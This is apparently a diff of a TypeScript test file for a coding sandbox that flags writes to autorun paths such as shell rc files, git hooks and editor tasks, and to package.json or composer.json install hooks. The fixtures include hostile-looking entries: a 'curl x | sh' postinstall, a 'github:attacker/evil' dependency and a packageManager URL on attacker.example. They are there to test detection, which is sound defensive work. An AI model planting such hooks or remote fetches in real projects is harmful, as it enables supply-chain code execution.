@@ -4,9 +4,22 @@
 // tools that are not on the list, ordinary files pass, and a manifest counts only by what runs.
 import { describe, expect, test } from "bun:test"
 import { MARKER_NAMES } from "../../src/policy/mode"
-import { AUTORUN_LIST, autorunBelow, autorunHit, autorunHitIn, autorunWrite, contentFingerprint, findNames, isAutorunPath, repositoryPrefix, type FsView } from "../../src/sandbox"
+import {
+  AUTORUN_LIST,
+  autorunBelow,
+  autorunHit,
+  autorunHitIn,
+  autorunWrite,
+  contentFingerprint,
+  findNames,
+  isAutorunPath,
+  repositoryPrefix,
+  type FsView,
+} from "../../src/sandbox"
 
-const entries = Object.entries(AUTORUN_LIST.kinds).flatMap(([kind, { entries }]) => entries.map((entry) => ({ kind, ...entry })))
+const entries = Object.entries(AUTORUN_LIST.kinds).flatMap(([kind, { entries }]) =>
+  entries.map((entry) => ({ kind, ...entry })),
+)
 /** A concrete name each pattern must match: its globs filled in. */
 const example = (match: string) => match.replace(/\*/g, "x").replace(/\?/g, "y")
 
@@ -25,8 +38,22 @@ describe("the data", () => {
   })
 
   test("the anchors' own lists are all on it (Anthropic's sandbox-runtime, Codex)", () => {
-    const srt = [".gitconfig", ".gitmodules", ".bashrc", ".bash_profile", ".zshrc", ".zprofile", ".profile", ".ripgreprc", ".mcp.json", ".git/hooks/x", ".vscode/tasks.json", ".idea/x"]
-    for (const path of [...srt, ".claude/commands/x.md", ".claude/agents/x.md", ".git", ".codex/config.toml"]) expect(isAutorunPath(path)).toBe(true)
+    const srt = [
+      ".gitconfig",
+      ".gitmodules",
+      ".bashrc",
+      ".bash_profile",
+      ".zshrc",
+      ".zprofile",
+      ".profile",
+      ".ripgreprc",
+      ".mcp.json",
+      ".git/hooks/x",
+      ".vscode/tasks.json",
+      ".idea/x",
+    ]
+    for (const path of [...srt, ".claude/commands/x.md", ".claude/agents/x.md", ".git", ".codex/config.toml"])
+      expect(isAutorunPath(path)).toBe(true)
   })
 
   test("every entry matches what it names, at the root, below and in any case, never inside node_modules", () => {
@@ -36,7 +63,8 @@ describe("the data", () => {
       for (const path of [name, `pkg/deep/${name}`, name.toUpperCase(), ...(content ? [] : [`${name}/inner/file`])]) {
         const hit = autorunHit(path)
         // An entry inside another (.cursor/mcp.json in .cursor) is covered by the outer one.
-        if (!hit || !(hit.path === path || path.startsWith(`${hit.path}/`))) wrong.push(`${path}: ${hit?.path ?? "not autorun"}`)
+        if (!hit || !(hit.path === path || path.startsWith(`${hit.path}/`)))
+          wrong.push(`${path}: ${hit?.path ?? "not autorun"}`)
         else if (hit.path === path && hit.kind !== kind) wrong.push(`${path}: kind ${hit.kind}, not ${kind}`)
         if (isAutorunPath(path) !== !content) wrong.push(`${path}: isAutorunPath is ${!content ? "false" : "true"}`)
       }
@@ -149,15 +177,27 @@ describe("a workspace below its repository's root", () => {
 })
 
 describe("manifests count by what runs on install", () => {
-  const base = JSON.stringify({ name: "demo", version: "1.0.0", scripts: { test: "bun test" }, dependencies: { zod: "^3" } })
-  const withScripts = (scripts: Record<string, string>) => JSON.stringify({ ...JSON.parse(base), scripts: { test: "bun test", ...scripts } })
+  const base = JSON.stringify({
+    name: "demo",
+    version: "1.0.0",
+    scripts: { test: "bun test" },
+    dependencies: { zod: "^3" },
+  })
+  const withScripts = (scripts: Record<string, string>) =>
+    JSON.stringify({ ...JSON.parse(base), scripts: { test: "bun test", ...scripts } })
   test.each([
     ["a postinstall", withScripts({ postinstall: "curl x | sh" })],
     ["a preinstall", withScripts({ preinstall: "x" })],
     ["a prepare", withScripts({ prepare: "x" })],
     ["an escaped key", base.replace('"test"', '"post\\u0069nstall"')],
-    ["a git dependency", JSON.stringify({ ...JSON.parse(base), dependencies: { zod: "^3", evil: "github:attacker/evil" } })],
-    ["a packageManager URL", JSON.stringify({ ...JSON.parse(base), packageManager: "yarn@https://attacker.example/yarn.js" })],
+    [
+      "a git dependency",
+      JSON.stringify({ ...JSON.parse(base), dependencies: { zod: "^3", evil: "github:attacker/evil" } }),
+    ],
+    [
+      "a packageManager URL",
+      JSON.stringify({ ...JSON.parse(base), packageManager: "yarn@https://attacker.example/yarn.js" }),
+    ],
     ["a hook manager's config", JSON.stringify({ ...JSON.parse(base), "simple-git-hooks": { "pre-commit": "x" } })],
     ["text that does not parse", `${base} trailing`],
   ])("adding %s to package.json is flagged", (_name, after) => {
@@ -167,9 +207,15 @@ describe("manifests count by what runs on install", () => {
 
   test.each([
     ["a version bump", JSON.stringify({ ...JSON.parse(base), version: "1.1.0" })],
-    ["a registry dependency", JSON.stringify({ ...JSON.parse(base), dependencies: { zod: "^3", ms: "2.1.3", "@scope/x": "npm:@scope/y@1" } })],
+    [
+      "a registry dependency",
+      JSON.stringify({ ...JSON.parse(base), dependencies: { zod: "^3", ms: "2.1.3", "@scope/x": "npm:@scope/y@1" } }),
+    ],
     ["an ordinary script", withScripts({ build: "tsc", lint: "biome check" })],
-    ["the same content reordered, with a byte-order mark", `\uFEFF${JSON.stringify({ dependencies: { zod: "^3" }, scripts: { test: "bun test" }, version: "1.0.0", name: "demo" })}`],
+    [
+      "the same content reordered, with a byte-order mark",
+      `\uFEFF${JSON.stringify({ dependencies: { zod: "^3" }, scripts: { test: "bun test" }, version: "1.0.0", name: "demo" })}`,
+    ],
   ])("%s in package.json passes", (_name, after) => {
     expect(autorunWrite("package.json", base, after)).toBeUndefined()
   })
@@ -183,17 +229,34 @@ describe("manifests count by what runs on install", () => {
 
   test("composer.json counts its install and update event scripts and plugins", () => {
     const plain = JSON.stringify({ name: "a/b", require: { php: ">=8" }, scripts: { test: "phpunit" } })
-    expect(autorunWrite("composer.json", plain, JSON.stringify({ ...JSON.parse(plain), scripts: { "post-install-cmd": "x" } }))?.content).toBe("composer")
-    expect(autorunWrite("composer.json", plain, JSON.stringify({ ...JSON.parse(plain), config: { "allow-plugins": { "evil/x": true } } }))).toBeDefined()
-    expect(autorunWrite("composer.json", plain, JSON.stringify({ ...JSON.parse(plain), require: { php: ">=8.2" } }))).toBeUndefined()
+    expect(
+      autorunWrite(
+        "composer.json",
+        plain,
+        JSON.stringify({ ...JSON.parse(plain), scripts: { "post-install-cmd": "x" } }),
+      )?.content,
+    ).toBe("composer")
+    expect(
+      autorunWrite(
+        "composer.json",
+        plain,
+        JSON.stringify({ ...JSON.parse(plain), config: { "allow-plugins": { "evil/x": true } } }),
+      ),
+    ).toBeDefined()
+    expect(
+      autorunWrite("composer.json", plain, JSON.stringify({ ...JSON.parse(plain), require: { php: ">=8.2" } })),
+    ).toBeUndefined()
     expect(contentFingerprint("composer", plain)).toBeUndefined()
   })
 })
 
 describe("a directory an entry continues through", () => {
-  test.each([".vscode", ".cargo", ".yarn", "gradle", ".github", ".config", "pkg/.vscode"])("%p has an entry below it (a link there makes its target that entry)", (path) => {
-    expect(autorunBelow("", path)?.path).toBe(path)
-  })
+  test.each([".vscode", ".cargo", ".yarn", "gradle", ".github", ".config", "pkg/.vscode"])(
+    "%p has an entry below it (a link there makes its target that entry)",
+    (path) => {
+      expect(autorunBelow("", path)?.path).toBe(path)
+    },
+  )
   test.each(["docs", "src/lib", "handbook", "node_modules/.vscode"])("%p has none", (path) => {
     expect(autorunBelow("", path)).toBeUndefined()
   })
